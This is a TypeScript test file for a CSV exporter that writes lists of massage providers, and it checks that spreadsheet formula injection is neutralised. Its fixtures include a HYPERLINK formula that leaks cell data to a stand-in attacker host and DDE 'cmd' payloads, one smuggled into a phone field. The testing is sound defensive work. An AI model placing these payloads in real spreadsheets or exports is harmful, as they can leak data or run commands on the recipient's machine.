import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { strengthMessage } from '@/lib/detect/verdict';
import { t } from '@/lib/extension/i18n';
import { CSV_COLUMNS, neutraliseCell, providersToCsv } from '@/lib/shortlist/csv';

const words = (p: Parameters<typeof strengthMessage>[0]) => t(strengthMessage(p));
import type { ProviderRecord } from '@/lib/shortlist/schema';

function provider(overrides: Partial<ProviderRecord> = {}): ProviderRecord {
  return {
    id: 'https://cedar.example/',
    url: 'https://cedar.example/',
    name: 'Cedar Medical Massage',
    phone: '555-0100',
    address: { street: '1 Main St', locality: 'Portland', region: 'OR', postalCode: '97201' },
    state: 'OR',
    kind: 'clinical-massage',
    confidence: 0.82,
    credentials: [
      { type: 'lmt', text: 'LMT #12345', licenseNumber: '12345' },
      { type: 'npi', text: 'NPI 1234567893', licenseNumber: '1234567893', valid: true },
    ],
    evidenceSummary: [],
    checklist: {},
    questions: {},
    notes: '',
    status: 'to-contact',
    tags: ['neck', 'near work'],
    createdAt: '2025-01-01T10:00:00.000Z',
    updatedAt: '2025-01-02T10:00:00.000Z',
    ...overrides,
  };
}

const parse = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('providersToCsv', () => {
  it('writes a header and one row per provider in the documented columns', () => {
    const rows = parse(providersToCsv([provider()], words));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows[0]).toEqual(['name', 'url', 'phone', 'street', 'city', 'state', 'kind', 'evidence', 'status', 'tags', 'credentials', 'notes', 'updatedAt']);
    expect(rows[1]).toEqual([
      'Cedar Medical Massage',
      'https://cedar.example/',
      '555-0100',
      '1 Main St',
      'Portland',
      'OR',
      'clinical-massage',
      'Strong evidence',
      'to-contact',
      'neck; near work',
      'LMT #12345; NPI 1234567893',
      '',
      '2025-01-02T10:00:00.000Z',
    ]);
  });

  it('leaves optional fields empty and writes only the header for an empty list', () => {
    const bare = provider({ phone: undefined, address: undefined, state: undefined, credentials: [], tags: [] });
    const rows = parse(providersToCsv([bare], words));
    expect(rows[1]!.slice(2, 6)).toEqual(['', '', '', '']);
    expect(parse(providersToCsv([], words))).toEqual([[...CSV_COLUMNS]]);
  });

  it('neutralises spreadsheet formulas with a leading apostrophe', () => {
    const evil = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
      '+1',
      '-2',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ];
    const rows = parse(providersToCsv(evil.map((notes, i) => provider({ id: `https://p${i}.example/`, notes, name: notes })), words));
    // After a tab or a carriage return a new cell may start as well: the formula gets its own apostrophe.
    const expected = ['\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', "'+1", "'-2", "'@SUM(A1:A9)", "'\t'=1+1", "'\r'=1+1"];
    rows.slice(1).forEach((row, i) => {
      expect(row[0]).toBe(expected[i]);
      expect(row[11]).toBe(expected[i]);
    });
    // Every cell, not only free text: a tag or credential can start a cell too.
    const tagged = parse(providersToCsv([provider({ tags: ['=cmd|" /C calc"!A0'], credentials: [{ type: 'x', text: '@evil' }], phone: '+1 555 0100' })], words));
    expect(tagged[1]![9]).toBe(`'=cmd|" /C calc"!A0`);
    expect(tagged[1]![10]).toBe(`'@evil`);
    expect(tagged[1]![2]).toBe(`'+1 555 0100`);
  });

  it('neutralises a formula after every separator a spreadsheet may split on (; , tab | newline)', () => {
    // A telephone field as a page may write it, read by a spreadsheet that splits on ";".
    const phone = "555;=cmd|' /C calc'!A0;";
    const row = parse(providersToCsv([provider({ phone })], words))[1]!;
    expect(row[2]).toBe("555;'=cmd|' /C calc'!A0;");
    for (const separator of [';', ',', '\t', '|', '\n', '\r']) {
      for (const trigger of ['=', '+', '-', '@']) {
        const cell = neutraliseCell(`555${separator} ${trigger}1+1`);
        // Split the way such a spreadsheet would: no cell may start (after spaces) with a formula character.
        for (const piece of cell.split(separator)) expect(piece.trimStart()).not.toMatch(/^[=+\-@]/);
      }
    }
    // Tags are joined with "; ": one starting with "=" is neutralised inside the joined cell too.
    expect(parse(providersToCsv([provider({ tags: ['back', '=1+1'] })], words))[1]![9]).toBe("back; '=1+1");
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Plain', 'a=b', 'email me@there', ' =not first', '', '1+1', '555-0100', 'Elm St, Suite 4'])
      expect(neutraliseCell(text)).toBe(text);
    for (const text of ['=1', '+1', '-1', '@a', '\tx', '\rx']) expect(neutraliseCell(text)).toBe(`'${text}`);
  });

  it('round-trips commas, quotes, newlines and non-ASCII text through papaparse', () => {
    const tricky = [
      'Cash only, no insurance',
      'She said "bring your MRI", twice',
      'Line one\nLine two\r\nLine three',
      'Café naïve — 日本語 ✓',
      '"',
      ',,,',
      '   padded   ',
    ];
    const providers = tricky.map((notes, i) => provider({ id: `https://p${i}.example/`, notes, name: `Name ${notes}` }));
    const rows = parse(providersToCsv(providers, words));
    expect(rows).toHaveLength(tricky.length + 1);
    rows.slice(1).forEach((row, i) => {
      expect(row).toHaveLength(CSV_COLUMNS.length);
      expect(row[11]).toBe(tricky[i]);
      expect(row[0]).toBe(`Name ${tricky[i]}`);
    });
  });
});

describe('how much the page showed, in the CSV', () => {
  it('is written in the popup\'s words for every strength, never as a number or a percentage', () => {
    const rows = parse(providersToCsv([0.95, 0.5, 0.2].map((confidence, i) => provider({ id: `https://s${i}.example/`, confidence })), words));
    const column = rows[0]!.indexOf('evidence');
    expect(rows.slice(1).map((r) => r[column])).toEqual(['Strong evidence', 'Some evidence', 'Little evidence']);
    expect(rows.flat().some((cell) => /%|^0\.\d+$/.test(cell ?? ''))).toBe(false);
  });
});
